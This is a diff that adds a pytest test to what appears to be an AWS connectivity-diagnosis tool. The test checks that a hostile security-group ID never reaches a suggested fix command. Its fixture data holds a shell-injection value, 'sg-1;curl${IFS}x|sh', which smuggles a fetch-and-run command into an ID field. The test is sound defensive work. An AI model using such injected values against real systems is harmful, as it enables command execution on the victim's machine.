@@ -100,3 +100,19 @@ def test_rds_host_name_resolves_to_the_instance_and_its_group(tmp_path: Path) ->
     assert (result.target.resource, result.target.group_ids, result.target.subnet_ids) == (
         "RDS instance orders-db", (builder.SG_DB,), (builder.SUB_DB_B,))
     assert result.cause.fix == CASES["SG_EGRESS_BLOCKS"].fix
+
+
+def test_hostile_ids_never_reach_a_fix_command(tmp_path: Path) -> None:
+    def hostile(files: builder.Files) -> None:
+        builder.sg_egress_443_only(files)
+        for group in files["describe-security-groups"]["SecurityGroups"]:
+            if group["GroupId"] == builder.SG_FN:
+                group["GroupId"] = "sg-1;curl${IFS}x|sh"
+        config = files["get-function-configuration.orders-api"]["VpcConfig"]
+        config["SecurityGroupIds"] = ["sg-1;curl${IFS}x|sh"]
+
+    result = _evaluate(builder.build(tmp_path, hostile), "10.0.3.47", 5432, "ETIMEDOUT")
+    assert result.cause.code == "SG_EGRESS_BLOCKS"
+    assert result.cause.fix == (
+        "aws ec2 authorize-security-group-egress --group-id GROUP --ip-permissions "
+        f"IpProtocol=tcp,FromPort=5432,ToPort=5432,UserIdGroupPairs=[{{GroupId={builder.SG_DB}}}]")
